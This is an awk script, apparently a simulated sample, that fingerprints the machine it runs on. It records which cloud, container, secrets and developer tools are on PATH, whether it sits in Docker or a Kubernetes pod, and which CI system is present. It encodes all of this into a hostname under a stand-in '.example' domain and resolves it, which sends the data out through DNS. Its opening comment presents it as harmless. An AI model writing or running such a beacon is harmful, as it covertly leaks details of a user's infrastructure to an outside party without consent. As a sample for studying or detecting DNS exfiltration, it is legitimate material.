# SPDX-License-Identifier: Apache-2.0
# Which tools are here? One bit for each, told in one question for a name. No host, no user, no address.

function there(path,    line, got) {
    got = (getline line < path)
    close(path)
    return got >= 0
}

function on_path(tool,    count, folders, i) {
    count = split(ENVIRON["PATH"], folders, ":")
    for (i = 1; i <= count; i++) {
        if (folders[i] != "" && there(folders[i] "/" tool)) return 1
    }
    return 0
}

BEGIN {
    count = split("docker kubectl aws gcloud az terraform helm vault git gh pip cargo go java psql ssh", tools, " ")
    mask = 0
    for (i = 1; i <= count; i++) mask = mask * 2 + on_path(tools[i])

    box = there("/.dockerenv") + 2 * there("/run/.containerenv")
    box += 4 * there("/var/run/secrets/kubernetes.io/serviceaccount/namespace")
    job = 0
    count = split("CI GITHUB_ACTIONS GITLAB_CI JENKINS_URL TF_BUILD CIRCLECI TEAMCITY_VERSION BUILDKITE", jobs, " ")
    for (i = 1; i <= count; i++) job = job * 2 + (jobs[i] in ENVIRON)

    name = sprintf("t%04x-b%x-j%02x.sim-tool-bitmap-by-awk.names-claimed.example", mask, box, job)
    system("getent hosts " name " >/dev/null 2>&1")
    exit 0
}
